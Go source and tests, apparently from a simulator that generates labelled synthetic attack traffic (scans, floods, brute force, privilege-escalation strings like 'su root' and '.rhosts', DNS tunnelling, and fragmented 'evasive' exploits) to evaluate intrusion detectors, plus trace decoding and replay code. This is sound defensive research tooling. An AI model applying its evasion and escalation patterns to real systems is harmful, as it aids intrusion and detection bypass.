			p := &packet.Packet{
				Src: attacker, Dst: victim,
				Proto:   packet.ProtoICMP,
				Payload: []byte{8, 0, 0, 0, byte(r), byte(n)}, // echo request header-ish
			}
			c.send(at, p, truth)
			n++
			at += interval
		}
	}
	// A sweep has no single victim: Victim stays zero, which the harness
	// treats as "match on attacker alone".
	return Incident{
		ID: id, Technique: TechPingSweep, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker,
	}
}

// ExtendedScenarios is the harder campaign: the standard seven plus the
// reconnaissance sweep and the evasion variants (fragmented exploit,
// stealth scan). Use it to stress detection breadth beyond the
// calibrated standard run.
func ExtendedScenarios(strength Intensity) []Scenario {
	return append(StandardScenarios(strength),
		PingSweep{Strength: strength},
		Exploit{Strength: strength, Evasive: true},
	)
}
