package attack

import (
	"fmt"
	"time"
)

// Campaign schedules a set of scenarios across a run window and collects
// their ground-truth incidents. The harness replays a campaign over
// background traffic to measure the paper's accuracy metrics.
type Campaign struct {
	ctx       *Context
	incidents []Incident
	nextID    int
}

// NewCampaign creates a campaign bound to the given context.
func NewCampaign(ctx *Context) *Campaign {
	return &Campaign{ctx: ctx}
}

// LaunchAt schedules scenario s to fire at virtual time at.
func (c *Campaign) LaunchAt(at time.Duration, s Scenario) error {
	if at < c.ctx.Sim.Now() {
		return fmt.Errorf("attack: launch time %v already past (now %v)", at, c.ctx.Sim.Now())
	}
	c.nextID++
	id := fmt.Sprintf("atk-%03d-%s", c.nextID, s.Technique())
	_, err := c.ctx.Sim.ScheduleAt(at, func() {
		inc := s.Launch(c.ctx, id)
		c.incidents = append(c.incidents, inc)
	})
	return err
}

// SpreadAcross schedules every scenario evenly across the window
// [start, start+window), with per-slot jitter drawn from the context RNG.
func (c *Campaign) SpreadAcross(start, window time.Duration, scenarios []Scenario) error {
	if len(scenarios) == 0 {
		return fmt.Errorf("attack: no scenarios")
	}
	slot := window / time.Duration(len(scenarios))
	for i, s := range scenarios {
		jitter := time.Duration(0)
		if slot > 1 {
			jitter = time.Duration(c.ctx.Rng.Int63n(int64(slot / 2)))
		}
		if err := c.LaunchAt(start+time.Duration(i)*slot+jitter, s); err != nil {
			return err
		}
	}
	return nil
}

// Incidents returns ground truth for every attack launched so far. The
// slice is live; callers should read it only after the simulation drains.
func (c *Campaign) Incidents() []Incident { return c.incidents }

// TotalAttackPackets sums labeled packets across incidents.
func (c *Campaign) TotalAttackPackets() int {
	n := 0
	for _, inc := range c.incidents {
		n += inc.Packets
	}
	return n
}
