package attack

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
	"repro/internal/traffic"
)

func testCtx(t *testing.T) (*Context, *[]*packet.Packet) {
	t.Helper()
	sim := simtime.New(4)
	var got []*packet.Packet
	ctx := &Context{
		Sim: sim,
		Rng: sim.Stream("attack"),
		Seq: &packet.SeqCounter{},
		Eps: traffic.Endpoints{
			External: []packet.Addr{packet.IPv4(203, 0, 1, 1), packet.IPv4(203, 0, 1, 2)},
			Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2), packet.IPv4(10, 1, 1, 3)},
		},
		Emit: func(p *packet.Packet) { got = append(got, p) },
	}
	return ctx, &got
}

func launchAndDrain(t *testing.T, s Scenario) (Incident, []*packet.Packet) {
	t.Helper()
	ctx, got := testCtx(t)
	inc := s.Launch(ctx, "atk-test")
	ctx.Sim.Run()
	return inc, *got
}

func checkLabels(t *testing.T, inc Incident, pkts []*packet.Packet, technique string) {
	t.Helper()
	if inc.Technique != technique {
		t.Fatalf("incident technique %q, want %q", inc.Technique, technique)
	}
	if len(pkts) != inc.Packets {
		t.Fatalf("emitted %d packets, incident says %d", len(pkts), inc.Packets)
	}
	if inc.Packets == 0 {
		t.Fatal("scenario emitted nothing")
	}
	for _, p := range pkts {
		if !p.Truth.Malicious || p.Truth.AttackID != "atk-test" || p.Truth.Technique != technique {
			t.Fatalf("bad ground truth on %v: %+v", p, p.Truth)
		}
		if p.Seq == 0 {
			t.Fatal("unassigned Seq")
		}
	}
}

func TestPortScan(t *testing.T) {
	inc, pkts := launchAndDrain(t, PortScan{})
	checkLabels(t, inc, pkts, TechPortScan)
	ports := make(map[uint16]bool)
	for _, p := range pkts {
		if !p.Flags.Has(packet.SYN) {
			t.Fatal("scan probe without SYN")
		}
		if p.Dst != inc.Victim {
			t.Fatal("probe aimed at wrong victim")
		}
		ports[p.DstPort] = true
	}
	if len(ports) < 50 {
		t.Fatalf("only %d distinct ports probed", len(ports))
	}
}

func TestPortScanIntensityScales(t *testing.T) {
	low, _ := launchAndDrain(t, PortScan{Strength: 0.5})
	high, _ := launchAndDrain(t, PortScan{Strength: 2})
	if high.Packets <= low.Packets {
		t.Fatalf("intensity did not scale: low=%d high=%d", low.Packets, high.Packets)
	}
}

func TestSYNFloodRate(t *testing.T) {
	inc, pkts := launchAndDrain(t, SYNFlood{Pps: 1000, Duration: time.Second})
	checkLabels(t, inc, pkts, TechSYNFlood)
	if len(pkts) != 1000 {
		t.Fatalf("flood emitted %d packets, want 1000", len(pkts))
	}
	for _, p := range pkts {
		if p.DstPort != 80 || !p.Flags.Has(packet.SYN) {
			t.Fatal("flood packet malformed")
		}
	}
}

func TestBruteForceContent(t *testing.T) {
	inc, pkts := launchAndDrain(t, BruteForce{Attempts: 10})
	checkLabels(t, inc, pkts, TechBruteForce)
	var sawGuess, sawReject bool
	for _, p := range pkts {
		s := string(p.Payload)
		if strings.Contains(s, "password: ") {
			sawGuess = true
		}
		if strings.Contains(s, "Login incorrect") {
			sawReject = true
		}
	}
	if !sawGuess || !sawReject {
		t.Fatalf("dialogue incomplete: guess=%v reject=%v", sawGuess, sawReject)
	}
	// Session must be framed: SYN first, FIN last.
	if !pkts[0].Flags.Has(packet.SYN) {
		t.Fatal("no handshake")
	}
	if !pkts[len(pkts)-1].Flags.Has(packet.FIN) {
		t.Fatal("no teardown")
	}
}

func TestExploitCarriesKnownSignatures(t *testing.T) {
	inc, pkts := launchAndDrain(t, Exploit{Count: 6})
	checkLabels(t, inc, pkts, TechExploit)
	matched := 0
	for _, p := range pkts {
		if len(p.Payload) == 0 {
			continue
		}
		for _, sig := range exploitPayloads {
			if bytes.Equal(p.Payload, sig) {
				matched++
				break
			}
		}
	}
	if matched != 6 {
		t.Fatalf("matched %d exploit payloads, want 6", matched)
	}
}

func TestInsiderStaysEastWest(t *testing.T) {
	inc, pkts := launchAndDrain(t, Insider{})
	checkLabels(t, inc, pkts, TechInsider)
	lan := packet.IPv4(10, 1, 0, 0)
	for _, p := range pkts {
		if p.Src&0xFFFF0000 != lan || p.Dst&0xFFFF0000 != lan {
			t.Fatalf("insider packet left the LAN: %v", p.Key())
		}
	}
	if inc.Attacker == inc.Victim {
		t.Fatal("attacker and victim identical")
	}
}

func TestMasqueradeEscalates(t *testing.T) {
	inc, pkts := launchAndDrain(t, Masquerade{Commands: 5})
	checkLabels(t, inc, pkts, TechMasquerade)
	var sawLogin, sawEscalation bool
	for _, p := range pkts {
		s := string(p.Payload)
		if strings.Contains(s, "login: operator") {
			sawLogin = true
		}
		if strings.Contains(s, "su root") || strings.Contains(s, ".rhosts") {
			sawEscalation = true
		}
	}
	if !sawLogin || !sawEscalation {
		t.Fatalf("login=%v escalation=%v", sawLogin, sawEscalation)
	}
}

func TestDNSTunnelShape(t *testing.T) {
	inc, pkts := launchAndDrain(t, DNSTunnel{Queries: 30})
	checkLabels(t, inc, pkts, TechTunnel)
	for _, p := range pkts {
		if p.Proto != packet.ProtoUDP || p.DstPort != 53 {
			t.Fatal("tunnel packet not DNS-shaped")
		}
		if len(p.Payload) < 60 {
			t.Fatalf("tunnel query suspiciously small: %d bytes", len(p.Payload))
		}
	}
	// Exfil runs from inside to outside.
	if inc.Attacker&0xFFFF0000 != packet.IPv4(10, 1, 0, 0) {
		t.Fatal("tunnel source not on the LAN")
	}
}

func TestStandardScenariosCoverAllTechniques(t *testing.T) {
	ss := StandardScenarios(1)
	want := map[string]bool{
		TechPortScan: true, TechSYNFlood: true, TechBruteForce: true,
		TechExploit: true, TechInsider: true, TechMasquerade: true, TechTunnel: true,
	}
	for _, s := range ss {
		delete(want, s.Technique())
	}
	if len(want) != 0 {
		t.Fatalf("techniques missing from StandardScenarios: %v", want)
	}
}

func TestCampaignSpreadAcross(t *testing.T) {
	ctx, got := testCtx(t)
	camp := NewCampaign(ctx)
	if err := camp.SpreadAcross(time.Second, 10*time.Second, StandardScenarios(0.5)); err != nil {
		t.Fatal(err)
	}
	ctx.Sim.Run()
	incs := camp.Incidents()
	if len(incs) != 7 {
		t.Fatalf("%d incidents, want 7", len(incs))
	}
	ids := make(map[string]bool)
	for _, inc := range incs {
		if ids[inc.ID] {
			t.Fatalf("duplicate incident id %s", inc.ID)
		}
		ids[inc.ID] = true
		if inc.Start < time.Second {
			t.Fatalf("incident %s started before the window", inc.ID)
		}
	}
	if camp.TotalAttackPackets() != len(*got) {
		t.Fatalf("TotalAttackPackets=%d, emitted %d", camp.TotalAttackPackets(), len(*got))
	}
}

func TestCampaignRejectsPastLaunch(t *testing.T) {
	ctx, _ := testCtx(t)
	ctx.Sim.MustSchedule(time.Second, func() {})
	ctx.Sim.Run()
	camp := NewCampaign(ctx)
	if err := camp.LaunchAt(500*time.Millisecond, PortScan{}); err == nil {
		t.Fatal("past launch accepted")
	}
}

func TestCampaignEmptyScenarios(t *testing.T) {
	ctx, _ := testCtx(t)
	camp := NewCampaign(ctx)
	if err := camp.SpreadAcross(0, time.Second, nil); err == nil {
		t.Fatal("empty scenario list accepted")
	}
}

func BenchmarkCampaignStandard(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sim := simtime.New(4)
		ctx := &Context{
			Sim: sim, Rng: sim.Stream("attack"), Seq: &packet.SeqCounter{},
			Eps: traffic.Endpoints{
				External: []packet.Addr{packet.IPv4(203, 0, 1, 1)},
				Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2)},
			},
			Emit: func(p *packet.Packet) {},
		}
		camp := NewCampaign(ctx)
		camp.SpreadAcross(0, 10*time.Second, StandardScenarios(1))
		sim.Run()
	}
}

func TestExploitEvasiveFragments(t *testing.T) {
	inc, pkts := launchAndDrain(t, Exploit{Count: 2, Evasive: true})
	checkLabels(t, inc, pkts, TechExploit)
	// No single data packet may contain a complete exploit payload.
	for _, p := range pkts {
		if len(p.Payload) == 0 {
			continue
		}
		if len(p.Payload) > 7 {
			t.Fatalf("evasive fragment of %d bytes", len(p.Payload))
		}
		for _, sig := range exploitPayloads {
			if bytes.Contains(p.Payload, sig) {
				t.Fatal("complete signature present in one packet")
			}
		}
	}
	// But concatenating the fragments per flow must reconstruct payloads.
	byFlow := make(map[uint16][]byte)
	for _, p := range pkts {
		byFlow[p.SrcPort] = append(byFlow[p.SrcPort], p.Payload...)
	}
	matched := 0
	for _, joined := range byFlow {
		for _, sig := range exploitPayloads {
			if bytes.Contains(joined, sig) {
				matched++
				break
			}
		}
	}
	if matched != 2 {
		t.Fatalf("reconstructed %d complete payloads, want 2", matched)
	}
}

func TestPortScanStealthInterval(t *testing.T) {
	fast, _ := launchAndDrain(t, PortScan{Ports: 10})
	slow, _ := launchAndDrain(t, PortScan{Ports: 10, Stealth: true})
	if slow.Duration <= fast.Duration*10 {
		t.Fatalf("stealth scan not slower: %v vs %v", slow.Duration, fast.Duration)
	}
}

func TestPingSweepCoversCluster(t *testing.T) {
	inc, pkts := launchAndDrain(t, PingSweep{Rounds: 2})
	checkLabels(t, inc, pkts, TechPingSweep)
	touched := map[packet.Addr]bool{}
	for _, p := range pkts {
		if p.Proto != packet.ProtoICMP {
			t.Fatal("sweep packet not ICMP")
		}
		touched[p.Dst] = true
	}
	if len(touched) != 3 {
		t.Fatalf("sweep touched %d hosts, want all 3", len(touched))
	}
	if len(pkts) != 6 {
		t.Fatalf("2 rounds over 3 hosts = %d packets, want 6", len(pkts))
	}
}

func TestExtendedScenariosSuperset(t *testing.T) {
	std := StandardScenarios(1)
	ext := ExtendedScenarios(1)
	if len(ext) != len(std)+2 {
		t.Fatalf("extended has %d scenarios, want %d", len(ext), len(std)+2)
	}
	techs := map[string]bool{}
	for _, s := range ext {
		techs[s.Technique()] = true
	}
	if !techs[TechPingSweep] {
		t.Fatal("extended campaign missing the ping sweep")
	}
}
