// JSON-lines decoding, inverting WriteJSONL. The JSONL form exists for
// human inspection and interchange; ReadJSONL makes it a full citizen of
// the format-conversion triangle (JSONL ↔ IDTR ↔ IDT2) so traces can be
// edited as text and replayed.
package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"time"

	"repro/internal/attack"
	"repro/internal/packet"
)

// jsonLine is the union of a record line and the trailer object.
type jsonLine struct {
	jsonRecord
	Meta      string            `json:"meta"`
	Profile   string            `json:"profile"`
	Seed      int64             `json:"seed"`
	Incidents []attack.Incident `json:"incidents"`
}

// ReadJSONL parses a JSON-lines trace written by WriteJSONL.
func ReadJSONL(r io.Reader) (*Trace, error) {
	dec := json.NewDecoder(bufio.NewReaderSize(r, 256<<10))
	t := &Trace{}
	sawTrailer := false
	for lineNo := 1; ; lineNo++ {
		var jl jsonLine
		if err := dec.Decode(&jl); err != nil {
			if err == io.EOF {
				break
			}
			return nil, fmt.Errorf("trace: jsonl line %d: %w", lineNo, err)
		}
		if sawTrailer {
			return nil, fmt.Errorf("trace: jsonl line %d: data after trailer", lineNo)
		}
		if jl.Meta != "" {
			if jl.Meta != "trailer" {
				return nil, fmt.Errorf("trace: jsonl line %d: unknown meta %q", lineNo, jl.Meta)
			}
			t.Profile = jl.Profile
			t.Seed = jl.Seed
			t.Incidents = jl.Incidents
			sawTrailer = true
			continue
		}
		p := &packet.Packet{
			Seq:     jl.Seq,
			Sent:    time.Duration(jl.SentNs),
			SrcPort: jl.SrcPort, DstPort: jl.DstPort,
			Proto: packet.Proto(jl.Proto), TTL: jl.TTL,
			Payload: jl.Payload,
			Truth: packet.Label{
				Malicious: jl.Malicious,
				AttackID:  jl.AttackID,
				Technique: jl.Technique,
			},
		}
		var err error
		if p.Src, err = packet.ParseAddr(jl.Src); err != nil {
			return nil, fmt.Errorf("trace: jsonl line %d: %w", lineNo, err)
		}
		if p.Dst, err = packet.ParseAddr(jl.Dst); err != nil {
			return nil, fmt.Errorf("trace: jsonl line %d: %w", lineNo, err)
		}
		if p.Flags, err = packet.ParseTCPFlags(jl.Flags); err != nil {
			return nil, fmt.Errorf("trace: jsonl line %d: %w", lineNo, err)
		}
		if err := t.Append(time.Duration(jl.AtNs), p); err != nil {
			return nil, fmt.Errorf("trace: jsonl line %d: %w", lineNo, err)
		}
	}
	if !sawTrailer {
		return nil, fmt.Errorf("trace: jsonl stream has no trailer")
	}
	return t, nil
}
