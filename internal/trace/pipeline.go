// Streaming replay: a chunk source abstraction, the pipelined decoder,
// and a Reader-driven Replay variant with O(chunk) scheduled state.
package trace

import (
	"errors"
	"fmt"
	"io"
	"time"

	"repro/internal/packet"
	"repro/internal/par"
	"repro/internal/simtime"
)

// ChunkSource yields decoded chunks in trace order; Next returns io.EOF
// at end of trace. *Reader and *PipelinedReader both implement it.
type ChunkSource interface {
	Next() (*Chunk, error)
}

// PipelinedReader decodes ahead of its consumer: a single internal/par
// worker pulls chunks from the underlying Reader so chunk N+1 is
// decoding (and its I/O in flight) while chunk N replays. Buffer
// recycling stays safe because Chunk.Release hands buffers back through
// a mutex-guarded freelist shared with the decode worker.
type PipelinedReader struct {
	pipe *par.Pipe[*Chunk]
}

// NewPipelinedReader starts decoding ahead by up to depth chunks
// (depth < 1 is treated as 1).
func NewPipelinedReader(r *Reader, depth int) *PipelinedReader {
	return &PipelinedReader{
		pipe: par.NewPipe(depth, func() (*Chunk, error) { return r.Next() }),
	}
}

// Next returns the next chunk in trace order, or io.EOF at end.
func (p *PipelinedReader) Next() (*Chunk, error) { return p.pipe.Next() }

// Close stops the decode worker. It must be called when abandoning the
// stream early; after a clean io.EOF it is a no-op.
func (p *PipelinedReader) Close() { p.pipe.Stop() }

// ReplayStream is the handle for an in-flight streaming replay. Chunk
// fetch and scheduling continue inside simulation events after
// ReplayReader returns, so decode errors that surface mid-run are
// reported here; check Err after the simulation drains.
type ReplayStream struct {
	err    error
	chunks int
}

// Err returns the first mid-replay fetch/schedule error, if any.
func (rs *ReplayStream) Err() error { return rs.err }

// Chunks reports how many chunks have been scheduled so far.
func (rs *ReplayStream) Chunks() int { return rs.chunks }

// releaseLag is how many chunks a replayed chunk is kept alive after
// its successor starts. Packets emitted into a testbed sit in bounded
// network queues for at most milliseconds, while a chunk spans seconds
// of virtual time at any realistic packet rate; a two-chunk lag leaves
// the recycled arena untouchable until long after the last reference
// drained, even for pathologically short chunks.
const releaseLag = 2

// ReplayReader schedules a streamed trace onto sim with the same
// semantics as Replay — first record at start, gaps scaled by
// 1/speedup, delivery through emit — but with O(chunk) memory: only the
// current chunk's records are scheduled, and an advance event at each
// chunk's last record time fetches and schedules the next chunk. With a
// PipelinedReader source the next chunk is already decoded when the
// advance event fires.
//
// Scheduling order matches the in-memory path: a chunk's records are
// scheduled in trace order, and the advance event for chunk N+1 is
// scheduled after chunk N's records, so at a shared timestamp the
// packet event fires first. Replayed chunks are released back to the
// reader releaseLag chunks later.
//
// The returned handle carries errors from advance events that fire
// while the simulation runs; callers must check handle.Err() after the
// sim drains.
func ReplayReader(sim *simtime.Sim, src ChunkSource, start time.Duration, speedup float64, emit func(p *packet.Packet)) (*ReplayStream, error) {
	if emit == nil {
		return nil, errors.New("trace: nil emit")
	}
	if speedup <= 0 {
		speedup = 1
	}
	rs := &ReplayStream{}
	first, err := src.Next()
	if err == io.EOF {
		return rs, nil
	}
	if err != nil {
		return nil, err
	}
	base := first.FirstAt()
	scale := func(at time.Duration) time.Duration {
		return start + time.Duration(float64(at-base)/speedup)
	}
	schedule := func(c *Chunk) error {
		for i := range c.Records {
			rec := c.Records[i]
			if _, err := sim.ScheduleAt(scale(rec.At), func() { emit(rec.Pk) }); err != nil {
				return err
			}
		}
		return nil
	}

	// held keeps the most recent releaseLag replayed chunks alive so
	// packets still in flight through the network model cannot alias a
	// recycled arena. held[0] is oldest.
	var held [releaseLag]*Chunk
	retire := func(c *Chunk) {
		if old := held[0]; old != nil {
			old.Release()
		}
		copy(held[:], held[1:])
		held[len(held)-1] = c
	}

	var advance func()
	advance = func() {
		c, err := src.Next()
		if err == io.EOF {
			// Trailing chunks are left for the GC: packets may still be
			// in flight when the stream ends.
			return
		}
		if err != nil {
			rs.err = fmt.Errorf("trace: streaming replay: %w", err)
			return
		}
		if err := schedule(c); err != nil {
			rs.err = err
			return
		}
		rs.chunks++
		if _, err := sim.ScheduleAt(scale(c.LastAt()), advance); err != nil {
			rs.err = err
			return
		}
		retire(c)
	}

	if err := schedule(first); err != nil {
		return nil, err
	}
	rs.chunks = 1
	if _, err := sim.ScheduleAt(scale(first.LastAt()), advance); err != nil {
		return nil, err
	}
	retire(first)
	return rs, nil
}
