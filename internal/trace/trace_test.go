package trace

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"repro/internal/attack"
	"repro/internal/packet"
	"repro/internal/simtime"
	"repro/internal/traffic"
)

func sampleTrace(t *testing.T) *Trace {
	t.Helper()
	sim := simtime.New(21)
	rec := NewRecorder(sim, "ecommerce-edge")
	seq := &packet.SeqCounter{}
	eps := traffic.Endpoints{
		External: []packet.Addr{packet.IPv4(203, 0, 1, 1)},
		Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2)},
	}
	gen, err := traffic.NewGenerator(sim, traffic.EcommerceEdge(), eps, seq, rec.Emit)
	if err != nil {
		t.Fatal(err)
	}
	gen.Start(40)
	ctx := &attack.Context{Sim: sim, Rng: sim.Stream("attack"), Seq: seq, Eps: eps, Emit: rec.Emit}
	camp := attack.NewCampaign(ctx)
	if err := camp.SpreadAcross(time.Second, 3*time.Second, []attack.Scenario{
		attack.PortScan{Ports: 30}, attack.Exploit{Count: 2},
	}); err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(5 * time.Second)
	gen.Stop()
	sim.Run()
	rec.SetIncidents(camp.Incidents())
	return rec.Trace()
}

func TestRecorderCapturesMixedTraffic(t *testing.T) {
	tr := sampleTrace(t)
	s := tr.Summarize()
	if s.Packets < 100 {
		t.Fatalf("only %d packets captured", s.Packets)
	}
	if s.MaliciousPkts == 0 || s.MaliciousPkts >= s.Packets {
		t.Fatalf("malicious packets = %d of %d", s.MaliciousPkts, s.Packets)
	}
	if s.Incidents != 2 {
		t.Fatalf("incidents = %d", s.Incidents)
	}
	if s.Duration <= 0 || s.AvgPps <= 0 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestAppendEnforcesTimeOrder(t *testing.T) {
	var tr Trace
	p := &packet.Packet{}
	if err := tr.Append(time.Second, p); err != nil {
		t.Fatal(err)
	}
	if err := tr.Append(500*time.Millisecond, p); err == nil {
		t.Fatal("out-of-order append accepted")
	}
	if err := tr.Append(time.Second, p); err != nil {
		t.Fatalf("equal-time append rejected: %v", err)
	}
}

func TestBinaryRoundTrip(t *testing.T) {
	tr := sampleTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteBinary(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadBinary(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Profile != tr.Profile || got.Seed != tr.Seed {
		t.Fatalf("meta mismatch: %q/%d vs %q/%d", got.Profile, got.Seed, tr.Profile, tr.Seed)
	}
	if len(got.Records) != len(tr.Records) {
		t.Fatalf("records %d vs %d", len(got.Records), len(tr.Records))
	}
	for i := range tr.Records {
		a, b := tr.Records[i], got.Records[i]
		if a.At != b.At {
			t.Fatalf("record %d time %v vs %v", i, a.At, b.At)
		}
		if a.Pk.Seq != b.Pk.Seq || a.Pk.Src != b.Pk.Src || a.Pk.Dst != b.Pk.Dst ||
			a.Pk.SrcPort != b.Pk.SrcPort || a.Pk.DstPort != b.Pk.DstPort ||
			a.Pk.Proto != b.Pk.Proto || a.Pk.Flags != b.Pk.Flags || a.Pk.TTL != b.Pk.TTL {
			t.Fatalf("record %d header mismatch", i)
		}
		if !bytes.Equal(a.Pk.Payload, b.Pk.Payload) {
			t.Fatalf("record %d payload mismatch", i)
		}
		if a.Pk.Truth != b.Pk.Truth {
			t.Fatalf("record %d truth %+v vs %+v", i, a.Pk.Truth, b.Pk.Truth)
		}
	}
	if len(got.Incidents) != len(tr.Incidents) {
		t.Fatalf("incidents %d vs %d", len(got.Incidents), len(tr.Incidents))
	}
	for i := range tr.Incidents {
		if got.Incidents[i] != tr.Incidents[i] {
			t.Fatalf("incident %d mismatch: %+v vs %+v", i, got.Incidents[i], tr.Incidents[i])
		}
	}
}

func TestReadBinaryRejectsGarbage(t *testing.T) {
	if _, err := ReadBinary(strings.NewReader("not a trace at all....")); err == nil {
		t.Fatal("garbage accepted")
	}
	if _, err := ReadBinary(strings.NewReader("")); err == nil {
		t.Fatal("empty input accepted")
	}
	// Truncated valid prefix.
	tr := sampleTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteBinary(&buf); err != nil {
		t.Fatal(err)
	}
	half := buf.Bytes()[:buf.Len()/2]
	if _, err := ReadBinary(bytes.NewReader(half)); err == nil {
		t.Fatal("truncated trace accepted")
	}
}

func TestJSONLIncludesTruthAndTrailer(t *testing.T) {
	tr := sampleTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	lines := strings.Count(out, "\n")
	if lines != len(tr.Records)+1 {
		t.Fatalf("%d lines, want %d records + 1 trailer", lines, len(tr.Records))
	}
	if !strings.Contains(out, `"technique":"portscan"`) {
		t.Fatal("no ground truth in JSONL")
	}
	if !strings.Contains(out, `"meta":"trailer"`) || !strings.Contains(out, `"incidents":[`) {
		t.Fatal("no trailer metadata")
	}
}

func TestReplayPreservesOrderAndPacing(t *testing.T) {
	tr := sampleTrace(t)
	sim := simtime.New(1)
	var times []time.Duration
	var pkts []*packet.Packet
	if err := Replay(sim, tr, time.Second, 1, func(p *packet.Packet) {
		times = append(times, sim.Now())
		pkts = append(pkts, p)
	}); err != nil {
		t.Fatal(err)
	}
	sim.Run()
	if len(pkts) != len(tr.Records) {
		t.Fatalf("replayed %d of %d packets", len(pkts), len(tr.Records))
	}
	if times[0] != time.Second {
		t.Fatalf("first packet at %v, want 1s", times[0])
	}
	for i := 1; i < len(times); i++ {
		if times[i] < times[i-1] {
			t.Fatal("replay out of order")
		}
		wantGap := tr.Records[i].At - tr.Records[i-1].At
		if gotGap := times[i] - times[i-1]; gotGap != wantGap {
			t.Fatalf("gap %d: got %v want %v", i, gotGap, wantGap)
		}
	}
}

func TestReplaySpeedupCompressesTime(t *testing.T) {
	tr := sampleTrace(t)
	sim := simtime.New(1)
	var last time.Duration
	if err := Replay(sim, tr, 0, 4, func(p *packet.Packet) { last = sim.Now() }); err != nil {
		t.Fatal(err)
	}
	sim.Run()
	want := time.Duration(float64(tr.Duration()) / 4)
	// Integer rounding of per-record offsets may shave nanoseconds.
	if diff := last - want; diff < -time.Microsecond || diff > time.Microsecond {
		t.Fatalf("replay span %v, want ~%v", last, want)
	}
}

func TestReplayValidation(t *testing.T) {
	sim := simtime.New(1)
	if err := Replay(sim, &Trace{}, 0, 1, nil); err == nil {
		t.Fatal("nil emit accepted")
	}
	if err := Replay(sim, &Trace{}, 0, 1, func(p *packet.Packet) {}); err != nil {
		t.Fatalf("empty trace should be a no-op, got %v", err)
	}
}

// Property: binary round-trip is identity for arbitrary single-packet
// traces.
func TestPropertyBinaryRoundTrip(t *testing.T) {
	f := func(src, dst uint32, sport, dport uint16, proto, flags, ttl uint8, payload []byte, mal bool) bool {
		p := &packet.Packet{
			Seq: 1, Src: packet.Addr(src), Dst: packet.Addr(dst),
			SrcPort: sport, DstPort: dport,
			Proto: packet.Proto(proto), Flags: packet.TCPFlags(flags), TTL: ttl,
			Payload: payload,
		}
		if mal {
			p.Truth = packet.Label{Malicious: true, AttackID: "a", Technique: "t"}
		}
		tr := &Trace{Profile: "p", Seed: 9}
		if err := tr.Append(time.Second, p); err != nil {
			return false
		}
		var buf bytes.Buffer
		if err := tr.WriteBinary(&buf); err != nil {
			return false
		}
		got, err := ReadBinary(&buf)
		if err != nil || len(got.Records) != 1 {
			return false
		}
		q := got.Records[0].Pk
		return q.Src == p.Src && q.Dst == p.Dst && q.SrcPort == p.SrcPort &&
			q.DstPort == p.DstPort && q.Proto == p.Proto && q.Flags == p.Flags &&
			q.TTL == p.TTL && bytes.Equal(q.Payload, p.Payload) && q.Truth == p.Truth
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkBinaryWrite(b *testing.B) {
	tr := sampleTraceForBench(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var buf bytes.Buffer
		if err := tr.WriteBinary(&buf); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkBinaryRead(b *testing.B) {
	tr := sampleTraceForBench(b)
	var buf bytes.Buffer
	if err := tr.WriteBinary(&buf); err != nil {
		b.Fatal(err)
	}
	data := buf.Bytes()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ReadBinary(bytes.NewReader(data)); err != nil {
			b.Fatal(err)
		}
	}
}

func sampleTraceForBench(b testing.TB) *Trace {
	b.Helper()
	sim := simtime.New(21)
	rec := NewRecorder(sim, "bench")
	eps := traffic.Endpoints{
		External: []packet.Addr{packet.IPv4(203, 0, 1, 1)},
		Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2)},
	}
	gen, err := traffic.NewGenerator(sim, traffic.EcommerceEdge(), eps, nil, rec.Emit)
	if err != nil {
		b.Fatal(err)
	}
	gen.Start(40)
	sim.RunUntil(3 * time.Second)
	gen.Stop()
	sim.Run()
	return rec.Trace()
}

func TestSummarizeEmptyTrace(t *testing.T) {
	var tr Trace
	s := tr.Summarize()
	if s.Packets != 0 || s.Duration != 0 || s.AvgPps != 0 {
		t.Fatalf("empty summary = %+v", s)
	}
}

func TestWriteBinaryRejectsOversizeStrings(t *testing.T) {
	tr := &Trace{Profile: strings.Repeat("x", 70000)}
	var buf bytes.Buffer
	if err := tr.WriteBinary(&buf); err == nil {
		t.Fatal("oversized profile string accepted")
	}
}

func TestReadBinaryRejectsHugePayloadClaim(t *testing.T) {
	// Hand-craft a header claiming one record with an absurd payload
	// length; the reader must refuse rather than allocate.
	var buf bytes.Buffer
	hdr := make([]byte, 16)
	binary.BigEndian.PutUint32(hdr[0:4], 0x49445452)
	binary.BigEndian.PutUint32(hdr[4:8], 1)
	binary.BigEndian.PutUint64(hdr[8:16], 1)
	buf.Write(hdr)
	buf.Write([]byte{0, 0}) // empty profile string
	buf.Write(make([]byte, 8))
	rec := make([]byte, 40)
	buf.Write(rec)
	plen := make([]byte, 4)
	binary.BigEndian.PutUint32(plen, 1<<30)
	buf.Write(plen)
	if _, err := ReadBinary(&buf); err == nil {
		t.Fatal("gigabyte payload claim accepted")
	}
}

func TestReadBinaryRejectsWrongVersion(t *testing.T) {
	var buf bytes.Buffer
	hdr := make([]byte, 16)
	binary.BigEndian.PutUint32(hdr[0:4], 0x49445452)
	binary.BigEndian.PutUint32(hdr[4:8], 99)
	buf.Write(hdr)
	if _, err := ReadBinary(&buf); err == nil {
		t.Fatal("future version accepted")
	}
}
