package trace

import (
	"bytes"
	"io"
	"runtime"
	"testing"
	"time"

	"repro/internal/attack"
	"repro/internal/packet"
